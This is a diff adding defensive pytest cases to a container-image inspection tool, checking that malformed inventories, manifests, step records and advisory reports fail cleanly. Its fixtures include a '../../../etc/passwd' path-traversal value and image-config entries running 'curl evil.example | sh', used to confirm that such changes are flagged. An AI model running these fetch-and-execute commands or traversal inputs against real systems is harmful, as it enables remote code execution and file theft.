@@ -5,19 +5,25 @@ from __future__ import annotations
 import gzip
 import io
 import json
+import os
 import tarfile
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
+import docker.models.images
 import pytest
 
 from shoal import limits
-from shoal.errors import ImageError
-from shoal.inspection import filesystem, manifest
-from shoal.layers import saved_image
+from shoal.docker_client import images
+from shoal.errors import DifferenceError, ImageError, SpecError
+from shoal.inspection import advisories, differences, filesystem, manifest
+from shoal.inspection.facts import Distribution
+from shoal.layers import inventory, saved_image
+from shoal.sources import record
 
-from .test_size import legacy, oci, tar
+from ..waiting import error_in_time
+from .test_size import Link, legacy, oci, tar
 
 
 def read(archive: bytes) -> tuple[saved_image.LayerTar, ...]:
@@ -91,6 +97,114 @@ def test_odd_documents_are_no_traceback(document: Any, config: Any) -> None:
         assert len(read(tar(files))) == 1
     except ImageError as error:
         assert str(error).startswith("a:1: ")
+
+
+INVENTORIES = {
+    "a long field": ("x.dist-info/RECORD", "x" * 200_000),
+    "a deep path": ("x.dist-info/RECORD", "a/" * 5000),
+    "a deep path of Debian": ("var/lib/dpkg/info/x.list", "/a" * 5000),
+    "a file above the root": ("x.dist-info/RECORD", "../../../etc/passwd,,"),
+    "a long version": ("x-1.dist-info/METADATA", f"Version: {'1' * 5000}\n"),
+}
+
+
+@pytest.mark.parametrize(("path", "text"), INVENTORIES.values(), ids=INVENTORIES)
+def test_odd_lists_of_packages_are_no_traceback(path: str, text: str) -> None:
+    layer = tar([(path, text.encode()), ("f", b"x")])
+    found = inventory.read_inventory("a:1", iter([legacy([layer])]))
+    assert found.sum.bytes == len(layer)
+    filesystem.parse_archive([layer])
+
+
+def test_links_over_links_are_no_traceback() -> None:
+    deep = "b/" * 200
+    links = [(f"l{number}", Link(f"l{number + 1}/{deep}")) for number in range(30)]
+    layer = tar([*links, ("x.dist-info/RECORD", b"l0/x,,\n"), ("loop", Link("loop/loop")), ("f", b"x")])
+    assert inventory.read_inventory("a:1", iter([legacy([layer])])).sum.files
+
+
+def test_a_layer_that_is_named_a_million_times_is_refused() -> None:
+    manifest_ = json.dumps([{"Config": "c", "Layers": ["l"] * 1_000_000}]).encode()
+    with pytest.raises(ImageError, match="1,000,000 layers, and Docker allows 127"):
+        read(tar([("l", tar([("f", b"x")])), ("c", b"{}"), ("manifest.json", manifest_)]))
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("OnBuild", ["RUN curl evil.example | sh"]),
+        ("Healthcheck", {"Test": ["CMD-SHELL", "curl evil.example | sh"]}),
+        ("Volumes", {"/opt": {}}),
+        ("ExposedPorts", {"22/tcp": {}}),
+        ("Shell", ["/evil", "-c"]),
+        ("StopSignal", "SIGWINCH"),
+        ("Entrypoint", ["/evil"]),
+        ("User", "root"),
+    ],
+)
+def test_a_part_of_the_configuration_is_a_difference(key: str, value: object) -> None:
+    old, new = (filesystem.FileSystem(files=dict(differences._configuration_files(of))) for of in ({}, {key: value}))
+    with pytest.raises(DifferenceError):
+        differences.compare_images("a:1", "b:1", old, new).check()
+
+
+def test_an_image_without_a_configuration_has_no_labels_and_no_script() -> None:
+    """Docker loads it, and the SDK's `labels` raises an AttributeError."""
+    image = docker.models.images.Image(attrs={"Id": "sha256:1", "Config": None})
+    assert (images.read_labels(image), images.has_script(image), images.read_config(image)) == ({}, False, {})
+
+
+def step(**fields: object) -> str:
+    return json.dumps({"steps": [{"name": "a", "text": "x", "inputs": {}, "key": "q", **fields}], "templates": {}})
+
+
+RECORDS = {
+    "nested": "[" * 200_000,
+    "inputs": step(inputs=5),
+    "a value": step(inputs={"f": 5}),
+    "a name": step(name=[1]),
+    "a key": step(key={}),
+    "templates": json.dumps({"steps": [], "templates": 7}),
+}
+
+
+@pytest.mark.parametrize("text", RECORDS.values(), ids=RECORDS)
+def test_an_odd_record_of_steps_is_none(text: str) -> None:
+    wanted = record.Record((record.RecordedStep("a", "t", {"f": "1@a"}, "k"),), {"t": "1"})
+    plan = record.make_plan("a:1", {record.STEPS: text}, wanted)
+    assert (plan.state, plan.reasons) == ("rebuilt", ("the image has no record of its steps",))
+
+
+def huge_file(path: Path) -> None:
+    path.touch()
+    os.truncate(path, 64 << 30)
+
+
+ADVISORIES = {
+    "nested": "[" * 200_000,
+    "an endless name": json.dumps({"dependencies": [{"name": ["x"]}]}),
+    "no list": '{"dependencies": 5}',
+    "not UTF-8": "\udcff",
+}
+
+
+@pytest.mark.parametrize("text", ADVISORIES.values(), ids=ADVISORIES)
+def test_hostile_advisories_are_an_error(tmp_path: Path, text: str) -> None:
+    (tmp_path / "audit.json").write_text(text, errors="surrogateescape")
+    with pytest.raises(SpecError, match="not a report of `pip-audit"):
+        advisories.read_report(tmp_path / "audit.json")
+
+
+@pytest.mark.parametrize("make", [os.mkfifo, huge_file, Path.mkdir])
+def test_advisories_that_are_no_file_are_not_waited_for(tmp_path: Path, make: Callable[[Path], object]) -> None:
+    make(tmp_path / "audit.json")
+    assert isinstance(error_in_time(lambda: advisories.read_report(tmp_path / "audit.json")), SpecError)
+
+
+def test_a_version_with_thousands_of_digits_is_compared() -> None:
+    installed = Distribution(name="x", version="1" * 5000, licence="", homepage="")
+    report = advisories.AuditReport.model_validate({"dependencies": [{"name": "x", "version": "1"}]})
+    assert report.find(installed) == []
 
 
 def test_a_cut_gzip_is_an_error() -> None:
